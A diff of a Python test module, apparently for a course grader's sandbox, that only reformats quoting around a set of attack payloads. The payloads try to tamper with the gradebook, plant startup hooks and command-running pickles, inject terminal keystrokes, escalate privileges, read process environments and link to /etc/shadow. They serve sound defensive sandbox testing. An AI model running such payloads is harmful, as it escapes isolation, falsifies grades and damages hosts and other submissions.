@@ -7,7 +7,7 @@ import json
 
 from attacks import RIGHT, WRONG, attack
 
-TRIES = '''
+TRIES = """
 import os, socket, sys
 
 HOST = {host}
@@ -18,7 +18,7 @@ def attempt(what, *given, **more):
         return what(*given, **more)
     except BaseException as reason:
         return reason
-'''
+"""
 
 
 def escaping(host: dict, code: str) -> str:
@@ -28,7 +28,9 @@ def escaping(host: dict, code: str) -> str:
 @attack(knows=("host",))
 def network(host: dict) -> str:
     """Calls a listener on the host, by every address that the machine has, and asks for names."""
-    return escaping(host, '''
+    return escaping(
+        host,
+        """
 import struct
 
 for address in ("127.0.0.1", "localhost", "10.0.2.2", "172.17.0.1", *HOST["addresses"]):
@@ -44,13 +46,16 @@ for name in ("\\0" + HOST["abstract"], HOST["socket"]):
     connection = socket.socket(socket.AF_UNIX)
     attempt(connection.connect, name)
     attempt(connection.send, b"CANARY")
-''')
+""",
+    )
 
 
 @attack(knows=("host",))
 def files_of_the_host(host: dict) -> str:
     """Writes, empties, deletes and links the gradebook, the course, other submissions and whatever can be written."""
-    return escaping(host, '''
+    return escaping(
+        host,
+        """
 import shutil, sqlite3
 
 for path in HOST["files"]:
@@ -62,13 +67,16 @@ for path in HOST["files"]:
     attempt(lambda: sqlite3.connect(path).execute("update results set score = 11"))
     attempt(shutil.rmtree, os.path.dirname(path))
     attempt(os.chmod, path, 0o777)
-''')
+""",
+    )
 
 
 @attack(knows=("host",))
 def environment_of_the_host(host: dict) -> str:
     """Writes into Python's environment what every later process would run: paths, plugins, `sitecustomize`."""
-    return escaping(host, '''
+    return escaping(
+        host,
+        """
 import site, sysconfig, txlib, ipykernel
 
 payload = f"import os; open({HOST['flag']!r}, 'w').write('CANARY')\\n"
@@ -82,13 +90,16 @@ for folder in folders:
         attempt(lambda: open(os.path.join(folder, name), "w").write(payload))
 os.environ |= {"PYTEST_ADDOPTS": "-p evil", "PYTHONPATH": os.getcwd(), "PYTHONSTARTUP": "evil.py",
                "PYTEST_PLUGINS": "evil", "LD_PRELOAD": "/tmp/evil.so", "TXLIB_TRUST_SUBMISSIONS": "1"}
-''')
+""",
+    )
 
 
 @attack(knows=("host",))
 def pickle_at_exit(host: dict) -> str:
     """Leaves pickles that run a command where they are read, also at exit."""
-    return escaping(host, '''
+    return escaping(
+        host,
+        """
 import atexit, pickle
 
 
@@ -109,13 +120,16 @@ atexit.register(leave)
 
 def spread(x):
     return Command()
-''')
+""",
+    )
 
 
 @attack(knows=("host",))
 def other_processes(host: dict) -> str:
     """Signals, traces and reads every process by its number, and looks for others in /proc."""
-    return escaping(host, '''
+    return escaping(
+        host,
+        """
 import ctypes, signal
 
 libc = ctypes.CDLL(None, use_errno=True)
@@ -128,13 +142,16 @@ for number in numbers - {mine}:
     print(number, attempt(lambda: open(f"/proc/{number}/environ").read()))
     if number in HOST["processes"]:
         attempt(os.kill, number, signal.SIGTERM)
-''')
+""",
+    )
 
 
 @attack(knows=("host",))
 def inherited_descriptors(host: dict) -> str:
     """Writes to every descriptor and socket that it was born with, and speaks to the warm parent, if it is there."""
-    return escaping(host, '''
+    return escaping(
+        host,
+        """
 import glob, struct
 
 own = {attempt(os.readlink, f"/proc/self/fd/{number}"): number for number in range(256)}
@@ -150,13 +167,16 @@ for path in (*(line.split()[-1] for line in open("/proc/net/unix")), *glob.glob(
         for words in (b'{"do": "preload", "modules": ["antigravity"]}\\n', struct.pack(">I", 2**31), b"\\0" * 4096):
             attempt(connection.send, words)
         print(path, attempt(connection.recv, 4096))
-''')
+""",
+    )
 
 
 @attack(knows=("host",))
 def terminal(host: dict) -> str:
     """Writes to the grader's terminal, and types into it."""
-    return escaping(host, '''
+    return escaping(
+        host,
+        """
 import fcntl, termios
 
 for number in (0, 1, 2):
@@ -166,13 +186,16 @@ for name in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/stdin", "/proc/self
     if isinstance(device, int):
         for letter in b"touch " + HOST["flag"].encode() + b"\\n":
             attempt(fcntl.ioctl, device, termios.TIOCSTI, bytes([letter]))
-''')
+""",
+    )
 
 
 @attack(knows=("host",))
 def more_rights(host: dict) -> str:
     """Becomes root, mounts, makes name spaces, changes its root, loads and traces what only the kernel may."""
-    return escaping(host, '''
+    return escaping(
+        host,
+        """
 import ctypes
 
 libc = ctypes.CDLL(None, use_errno=True)
@@ -199,13 +222,16 @@ for path, words in (("/proc/sys/kernel/core_pattern", "|/tmp/evil"), ("/proc/sel
     attempt(lambda: open(path, "w").write(words))
 print("CAPABILITIES", [line for line in open("/proc/self/status") if line.startswith(("Cap", "NoNewPrivs", "Uid"))])
 attempt(lambda: open(HOST["files"][0], "a").write("CANARY"))
-''')
+""",
+    )
 
 
 @attack(knows=("host",))
 def links_out(host: dict) -> str:
     """Fills its folder with links, pipes and devices that lead out, for whoever cleans up or collects."""
-    return escaping(host, '''
+    return escaping(
+        host,
+        """
 for number, path in enumerate((*HOST["files"], "/", "/etc/shadow", "..", "/proc/1/root")):
     attempt(os.symlink, path, f"link-{number}")
     attempt(os.link, path, f"hard-{number}")
@@ -213,13 +239,16 @@ attempt(os.mkfifo, "pipe")
 attempt(os.mknod, "device", 0o666 | 0o060000, os.makedev(8, 0))
 attempt(os.rename, os.getcwd(), os.getcwd() + "-moved")
 attempt(os.chmod, ".", 0)
-''')
+""",
+    )
 
 
 @attack(knows=("host",))
 def later_submissions(host: dict) -> str:
     """Leaves things for the submissions after it: files, shared memory, message queues, modules in the parent."""
-    return escaping(host, '''
+    return escaping(
+        host,
+        """
 import ctypes, importlib
 from multiprocessing import shared_memory
 
@@ -233,13 +262,15 @@ import txlib.grading.checks as checks
 
 checks.Show.randn = None
 os.environ["TXLIB_CANARY"] = "CANARY"
-''')
+""",
+    )
 
 
 @attack("nothing")
 def honest_after_the_others() -> dict[str, str]:
     """Not an attack: right answers that would see what the one before left behind."""
-    return {"target": '''
+    return {
+        "target": """
 import os
 
 from txlib.grading import checks
@@ -255,13 +286,17 @@ def left_behind():
         return "TXLIB_CANARY" in os.environ or checks.Show.randn is None
 
 
-''' + RIGHT["target"].replace("return int(", "return 99 if left_behind() else int(")}
+"""
+        + RIGHT["target"].replace("return int(", "return 99 if left_behind() else int(")
+    }
 
 
 @attack()
 def fills_the_connection_folder() -> str:
     """Writes files beside the kernel's connection file: that folder is the grader's, and of no bounded size."""
-    return WRONG + '''
+    return (
+        WRONG
+        + """
 import os
 from ipykernel.connect import get_connection_file
 
@@ -272,13 +307,16 @@ try:
             file.write(b"x" * 10_000_000)
 except OSError as reason:
     print(reason)
-'''
+"""
+    )
 
 
 @attack()
 def namespaces_inside() -> str:
     """Makes name spaces of its own, where it is root: with file systems in memory that nobody counts."""
-    return WRONG + '''
+    return (
+        WRONG
+        + '''
 import subprocess, sys
 
 print("INSIDE", subprocess.run([sys.executable, "-S", "-c", """
@@ -302,3 +340,4 @@ except OSError:
 print(done)
 """], capture_output=True, text=True).stdout)
 '''
+    )
